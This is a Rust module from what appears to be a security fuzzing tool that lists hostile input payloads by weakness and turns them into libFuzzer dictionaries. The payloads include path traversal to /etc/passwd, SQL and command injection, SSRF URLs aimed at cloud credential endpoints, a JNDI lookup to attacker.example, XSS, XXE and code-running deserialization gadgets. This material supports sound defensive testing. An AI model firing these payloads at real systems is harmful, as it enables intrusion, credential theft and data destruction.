//! Hostile payload families: the strings an attacker puts into an event field, grouped by the
//! weakness they probe. Which families a field gets depends on what the field is (a key, a URL,
//! free text) and, for free text, on the sinks the function writes to (see [`crate::Plan`]).

use serde::{Deserialize, Serialize};

/// A family of hostile inputs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Family {
    /// `../` sequences, absolute paths and NUL bytes.
    Traversal,
    /// Traversal hidden behind percent, double-percent, overlong UTF-8 and mixed encodings.
    EncodedTraversal,
    /// SQL injection.
    Sql,
    /// NoSQL operator injection (`{"$ne": null}`, `$where`), for JSON fields.
    NoSql,
    /// OS command injection.
    Command,
    /// Server-side template injection.
    Template,
    /// Log forging: CR/LF, ANSI escapes, fake log lines.
    LogInjection,
    /// Markup that runs script when echoed into HTML.
    Markup,
    /// URLs pointing at the cloud metadata service, loopback and internal hosts.
    Ssrf,
    /// Keys that pollute JavaScript prototypes (`__proto__`, `constructor`).
    PrototypePollution,
    /// printf-style format strings.
    FormatString,
    /// Boundary, huge, negative and non-finite numbers, as text.
    Numbers,
    /// Odd Unicode: combining marks, right-to-left overrides, zero-width characters, characters
    /// outside the basic plane, lookalikes; names of a few dozen bytes made mostly of two-, three-
    /// and four-byte characters (cut at a byte offset — a column width, a display limit — they
    /// split a character more often than not); and invalid UTF-8 where bytes are allowed.
    Unicode,
    /// XML external entities.
    Xxe,
    /// Serialised objects whose loading runs code: node-serialize functions, Python pickles
    /// (raw and base64), YAML tags that call functions. Each gadget runs the canary command.
    Deserialization,
    /// Source code for `eval`/`exec`/`Function`: each runs the canary command.
    Code,
}

impl Family {
    /// Every family, in a stable order.
    pub const ALL: [Family; 16] = [
        Family::Traversal,
        Family::EncodedTraversal,
        Family::Sql,
        Family::NoSql,
        Family::Command,
        Family::Template,
        Family::LogInjection,
        Family::Markup,
        Family::Ssrf,
        Family::PrototypePollution,
        Family::FormatString,
        Family::Numbers,
        Family::Unicode,
        Family::Xxe,
        Family::Deserialization,
        Family::Code,
    ];

    /// The family's payloads, as they would be typed into the field.
    #[must_use]
    #[allow(clippy::too_many_lines, reason = "a table of payloads")]
    pub fn payloads(self) -> &'static [&'static str] {
        match self {
            Family::Traversal => &[
                "../../../../etc/passwd",
                "../",
                "..\\..\\windows\\win.ini",
                "/etc/passwd",
                "....//....//etc/passwd",
                "uploads/../../secret",
                "a/b/../../../c",
                "file\u{0}.jpg",
                "/proc/self/environ",
                // The canary file (see `runtime::canary`): reaching it is the finding.
                "../../../../../../../../../../../../tmp/strider-canary/secret",
                "/tmp/strider-canary/secret",
            ],
            Family::EncodedTraversal => &[
                "%2e%2e%2f",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "%2E%2E/%2E%2E/secret",
                "..%2f..%2fsecret",
                "%252e%252e%252f",
                "..%252f..%252f",
                "%c0%ae%c0%ae%c0%af",
                "..%c0%af",
                "%2e%2e%5c",
                "..%5c..%5c",
                "%00",
            ],
            Family::Sql => &[
                "' OR '1'='1",
                "1; DROP TABLE orders;--",
                "' UNION SELECT NULL,NULL--",
                "\" OR \"\"=\"",
                "1' AND SLEEP(5)--",
                "'||(SELECT pg_sleep(5))||'",
                "admin'--",
            ],
            Family::NoSql => &[
                "{\"$ne\": null}",
                "{\"$gt\": \"\"}",
                "{\"$where\": \"sleep(5000)\"}",
                "{\"$regex\": \".*\"}",
                "'; return true; var x='",
            ],
            Family::Command => &[
                "; id",
                "| cat /etc/passwd",
                "$(id)",
                "`id`",
                "&& uname -a",
                "\nid\n",
                "-o /tmp/x",
                "photo.jpg; id",
                // The canary command (see `runtime::canary`): its running is the finding.
                ";strider-canary cmd-semicolon",
                "|strider-canary cmd-pipe",
                "$(strider-canary cmd-subst)",
                "`strider-canary cmd-backtick`",
                "\nstrider-canary cmd-newline\n",
                "x && strider-canary cmd-and",
                "x' ; strider-canary cmd-quote ; '",
            ],
            Family::Template => &[
                "{{7*7}}",
                "${7*7}",
                "<%= 7*7 %>",
                "#{7*7}",
                "{{constructor.constructor('return process')()}}",
                "${jndi:ldap://attacker.example/a}",
            ],
            Family::LogInjection => &[
                "x\r\nINFO admin logged in",
                "\n[ERROR] forged entry",
                "\u{1b}[2J\u{1b}[31mred",
                "%0d%0aSet-Cookie: a=b",
                "\r\n\r\n<html>",
            ],
            Family::Markup => &[
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "<svg onload=alert(1)>",
                "'-alert(1)-'",
            ],
            Family::Ssrf => &[
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://[fd00:ec2::254]/latest/meta-data/",
                "http://localhost:2773/",
                "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
                "file:///etc/passwd",
                "http://0x7f000001/",
                "gopher://127.0.0.1:6379/_INFO",
                "http://attacker.example@169.254.169.254/",
                // The canary listener and file (see `runtime::canary`).
                "http://strider-canary.internal/ssrf-url",
                "http://strider-canary.internal/latest/meta-data/ssrf-metadata",
                "file:///tmp/strider-canary/secret",
            ],
            Family::PrototypePollution => &[
                "__proto__",
                "constructor",
                "prototype",
                "__proto__.isAdmin",
                "constructor.prototype.isAdmin",
            ],
            Family::FormatString => &["%s%s%s%s", "%n%n", "%x%x%x", "{0}{1}", "%999999999d"],
            Family::Numbers => &[
                "0",
                "-1",
                "-0",
                "2147483648",
                "-2147483649",
                "4294967296",
                "9223372036854775807",
                "9223372036854775808",
                "-9223372036854775808",
                "18446744073709551616",
                "1e308",
                "1e309",
                "NaN",
                "Infinity",
                "0.1e-400",
                "00012",
                "0x10",
            ],
            Family::Unicode => &[
                "\u{202e}gpj.exe",
                "e\u{301}\u{301}\u{301}\u{301}",
                "\u{200b}\u{200d}\u{feff}",
                "\u{1f600}\u{1f600}\u{1f600}",
                "ａｄｍｉｎ",
                "İ",
                "\u{fffd}",
                "a\u{0}b",
                "ß\u{10ffff}",
                "山田 太郎 (やまだ たろう) 東京都渋谷区 \u{1f642}",
                "Ωμέγα Ñandú 東京 \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} Łódź ☃",
            ],
            Family::Deserialization => &[
                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').execSync('strider-canary deser-node')}()\"}",
                "_$$ND_FUNC$$_function(){require('child_process').execSync('strider-canary deser-node-bare')}()",
                "Y3Bvc2l4CnN5c3RlbQooUydzdHJpZGVyLWNhbmFyeSBwaWNrbGUxJwp0Ui4=",
                "cos\nsystem\n(S'strider-canary pickle2'\ntR.",
                "!!python/object/apply:os.system [\"strider-canary deser-yaml\"]",
            ],
            Family::Code => &[
                "__import__('os').system('strider-canary code-python')",
                "require('child_process').execSync('strider-canary code-node')",
                "1;require('child_process').execSync('strider-canary code-node-stmt')",
                "');__import__('os').system('strider-canary code-python-quote');('",
            ],
            Family::Xxe => &[
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://169.254.169.254/\"> %p;]>",
            ],
        }
    }

    /// The family's payloads that reach a canary of [`crate::runtime::canary`] when they do
    /// harm (a subset of [`Family::payloads`]; none for families without a canary).
    #[must_use]
    pub fn canaries(self) -> &'static [&'static str] {
        let payloads = self.payloads();
        let start = payloads
            .iter()
            .position(|p| p.contains("strider-canary"))
            .unwrap_or(payloads.len());
        &payloads[start..]
    }

    /// The family's name as the model and the findings spell it.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Family::Traversal => "traversal",
            Family::EncodedTraversal => "encoded-traversal",
            Family::Sql => "sql",
            Family::NoSql => "no-sql",
            Family::Command => "command",
            Family::Template => "template",
            Family::LogInjection => "log-injection",
            Family::Markup => "markup",
            Family::Ssrf => "ssrf",
            Family::PrototypePollution => "prototype-pollution",
            Family::FormatString => "format-string",
            Family::Numbers => "numbers",
            Family::Unicode => "unicode",
            Family::Xxe => "xxe",
            Family::Deserialization => "deserialization",
            Family::Code => "code",
        }
    }
}

/// What a string field holds, which decides the payload families it gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// An object key, file name or path inside a store.
    Key,
    /// A URL path or route.
    Path,
    /// A URL the function may fetch.
    Url,
    /// Free text that reaches the function's sinks.
    Text,
    /// An identifier (order id, user name).
    Id,
    /// A number carried as text.
    Number,
    /// An e-mail address.
    Email,
}

impl Role {
    /// The families always tried for this role; free text adds the plan's sink families.
    #[must_use]
    pub fn families(self) -> &'static [Family] {
        match self {
            Role::Key => &[
                Family::Traversal,
                Family::EncodedTraversal,
                Family::Unicode,
                Family::Command,
            ],
            Role::Path => &[Family::Traversal, Family::EncodedTraversal, Family::Unicode],
            Role::Url => &[Family::Ssrf, Family::EncodedTraversal],
            Role::Text => &[
                Family::Markup,
                Family::LogInjection,
                Family::FormatString,
                Family::Unicode,
                Family::Template,
            ],
            Role::Id => &[
                Family::Sql,
                Family::NoSql,
                Family::Traversal,
                Family::Unicode,
                Family::PrototypePollution,
            ],
            Role::Number => &[Family::Numbers],
            Role::Email => &[Family::Unicode, Family::Sql, Family::Markup],
        }
    }
}

/// Percent-encodes every byte that is not unreserved (RFC 3986).
#[must_use]
pub fn percent_encode(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// Encodes an S3 object key the way S3 event notifications carry it: form-urlencoded, with
/// spaces as `+` and `/` kept.
#[must_use]
pub fn s3_event_key(key: &str) -> String {
    let mut out = String::with_capacity(key.len() * 3);
    for byte in key.bytes() {
        match byte {
            b' ' => out.push('+'),
            b'/' | b'-' | b'.' | b'_' | b'~' | b'*' => out.push(char::from(byte)),
            _ if byte.is_ascii_alphanumeric() => out.push(char::from(byte)),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

/// The longest dictionary entry libFuzzer keeps (`Word::GetMaxSize`): it drops longer ones
/// silently when it reads a dictionary.
pub const MAX_DICTIONARY_ENTRY: usize = 64;

/// Tokens for a libFuzzer dictionary: every payload of the families that libFuzzer keeps, quoted
/// and escaped as the dictionary format wants.
#[must_use]
pub fn dictionary(families: &[Family]) -> Vec<String> {
    let mut tokens: Vec<String> = families
        .iter()
        .flat_map(|f| f.payloads().iter())
        .filter_map(|p| dictionary_entry(p.as_bytes()))
        .collect();
    tokens.sort();
    tokens.dedup();
    tokens
}

/// One dictionary line's value: `"..."` with `\\`, `\"` and `\xNN` escapes, every other byte
/// printable ASCII or a space, so libFuzzer reads back the same bytes. `None` for an empty token
/// or one longer than [`MAX_DICTIONARY_ENTRY`], which libFuzzer would drop.
#[must_use]
pub fn dictionary_entry(token: &[u8]) -> Option<String> {
    if token.is_empty() || token.len() > MAX_DICTIONARY_ENTRY {
        return None;
    }
    let mut out = String::with_capacity(token.len() + 2);
    out.push('"');
    for &byte in token {
        match byte {
            b'"' => out.push_str("\\\""),
            b'\\' => out.push_str("\\\\"),
            0x20..=0x7e => out.push(char::from(byte)),
            _ => out.push_str(&format!("\\x{byte:02X}")),
        }
    }
    out.push('"');
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn s3_keys_are_form_encoded_like_s3_does() {
        assert_eq!(s3_event_key("a b/c+d.jpg"), "a+b/c%2Bd.jpg");
        assert_eq!(s3_event_key("%2e%2e%2f"), "%252e%252e%252f");
        assert_eq!(s3_event_key("é"), "%C3%A9");
    }

    #[test]
    fn dictionary_entries_escape_quotes_backslashes_and_bytes() {
        assert_eq!(
            dictionary_entry(b"a\"b\\c\n").as_deref(),
            Some("\"a\\\"b\\\\c\\x0A\"")
        );
        assert_eq!(
            dictionary_entry("é".as_bytes()).as_deref(),
            Some("\"\\xC3\\xA9\"")
        );
        // libFuzzer drops what it cannot keep: it is not written at all.
        assert_eq!(dictionary_entry(b""), None);
        assert!(dictionary_entry(&[b'a'; MAX_DICTIONARY_ENTRY]).is_some());
        assert_eq!(dictionary_entry(&[b'a'; MAX_DICTIONARY_ENTRY + 1]), None);
        let tokens = dictionary(&Family::ALL);
        assert!(tokens.iter().all(|t| t.is_ascii() && t.starts_with('"')));
        assert!(tokens.windows(2).all(|w| w[0] < w[1]), "sorted and unique");
    }

    #[test]
    fn every_family_has_payloads_and_a_distinct_name() {
        let mut names: Vec<_> = Family::ALL.iter().map(|f| f.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), Family::ALL.len());
        assert!(Family::ALL.iter().all(|f| !f.payloads().is_empty()));
    }

    #[test]
    fn encoded_traversal_decodes_to_traversal() {
        // The point of the family: no `..` before decoding, `../` after.
        let hidden = "%2e%2e%2f";
        assert!(!hidden.contains(".."));
        let decoded = hidden.replace("%2e", ".").replace("%2f", "/");
        assert_eq!(decoded, "../");
    }
}
